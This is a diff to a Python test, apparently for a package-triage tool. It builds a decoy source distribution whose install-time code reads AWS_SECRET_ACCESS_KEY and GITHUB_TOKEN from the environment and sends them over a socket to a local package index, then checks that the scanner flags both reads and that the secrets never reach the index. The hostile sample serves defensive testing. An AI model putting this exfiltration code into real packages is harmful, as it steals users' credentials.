@@ -535,16 +535,18 @@ def test_a_sitecustomize_that_is_installed_is_told(triage: Triage, index: Index)
 def test_a_decoy_s_value_does_not_get_to_the_index(triage: Triage, index: Index) -> None:
     prelude = """
 import os, socket
-with socket.create_connection(("127.0.0.1", 3141)) as sock:
-    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
-    os.write(sock.fileno(), b"GET /simple/x" + secret + b"/ HTTP/1.1\\r\\n\\r\\n")
-    sock.recv(100)
+def ask(word):
+    with socket.create_connection(("127.0.0.1", 3141)) as sock:
+        os.write(sock.fileno(), b"GET /simple/x" + word.encode() + b"/ HTTP/1.1\\r\\n\\r\\n")
+        sock.recv(100)
+ask(os.environ["AWS_SECRET_ACCESS_KEY"])
+ask(os.environ["GITHUB_TOKEN"].lower().replace("_", "-"))  # as pip writes names
 """
     index.add_backend_sdist("telling", "1.0", prelude, {"telling.py": ""})
     _, report, _ = triage("telling")
-    assert any("AWS_SECRET_ACCESS_KEY" in title for title in findings(report, "secret.read")), (
-        report["findings"]
-    )
+    told = " ".join(findings(report, "secret.read"))
+    assert "AWS_SECRET_ACCESS_KEY" in told
+    assert "GITHUB_TOKEN" in told
     assert not [path for _, path in index.requests if path.startswith("/simple/x")]
 
 
